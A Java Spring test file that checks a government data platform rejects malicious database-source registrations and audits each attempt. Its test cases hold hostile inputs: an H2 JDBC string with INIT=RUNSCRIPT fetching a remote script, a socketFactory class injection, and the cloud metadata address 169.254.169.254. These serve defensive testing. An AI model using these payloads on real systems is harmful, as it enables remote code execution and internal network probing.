package cn.gov.shuozhou.data.delivery.pull;

import static cn.gov.shuozhou.data.SignedIn.as;
import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;

import cn.gov.shuozhou.data.catalog.Catalog;
import cn.gov.shuozhou.data.delivery.DataKeys;
import cn.gov.shuozhou.data.engine.MovableClockTest;
import cn.gov.shuozhou.data.organization.Organization;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.transaction.annotation.Transactional;

@MovableClockTest
@Transactional
@DisplayName("第二十八条：取数来源不能用来执行命令、探测内网；试过的都有审计记录")
class SourceDoorTest {

    private static final String PASSWORD = "Kou-Ling-Bu-Xie-Chu";

    @Autowired
    private MockMvc mvc;

    @Autowired
    private Organization organization;

    @Autowired
    private Catalog catalog;

    @Autowired
    private DataKeys keys;

    @Autowired
    private JdbcTemplate jdbc;

    @ParameterizedTest
    @CsvSource({
        "127.0.0.1, mem:a;INIT=RUNSCRIPT FROM 'http://10.1.1.1/a', 请填写数据库名",
        "127.0.0.1, a?socketFactory=org.example.Evil, 请填写数据库名",
        "169.254.169.254, a, 不在允许取数的主机之列",
        "localhost.localdomain, a, 不在允许取数的主机之列"
    })
    void refused(String host, String database, String sentence) throws Exception {
        long resource = jdbc.queryForObject(
                "select min(id) from resource where provider_code = 'civil-affairs' and status = 'PUBLISHED'",
                Long.class);
        keys.declare(
                resource,
                catalog.items(resource).stream().map(item -> item.id()).limit(1).toList());
        MockHttpServletResponse answer = mvc.perform(post("/pull-sources/new?resource=" + resource)
                        .param("kind", "H2")
                        .param("host", host)
                        .param("port", "9092")
                        .param("database", database)
                        .param("user", "reader")
                        .param("password", PASSWORD)
                        .param("reads", "TABLE")
                        .param("schema", "public")
                        .param("table", "people")
                        .param("rhythm", "DAILY")
                        .param("time", "02:00")
                        .with(as(organization
                                .person("civil-affairs.data-officer")
                                .orElseThrow()))
                        .with(csrf()))
                .andReturn()
                .getResponse();
        assertThat(answer.getStatus()).isEqualTo(400);
        assertThat(answer.getContentAsString(StandardCharsets.UTF_8))
                .contains(sentence)
                .doesNotContain(PASSWORD);
        assertThat(jdbc.queryForList(
                        "select concat(object, ' ', detail) from audit_entry where act = '登记取数来源' and result = 'REFUSED'",
                        String.class))
                .isNotEmpty()
                .noneMatch(detail -> detail.contains(PASSWORD));
        assertThat(jdbc.queryForObject(
                        "select count(*) from pull_source where resource_id = ?", Integer.class, resource))
                .isZero();
    }
}
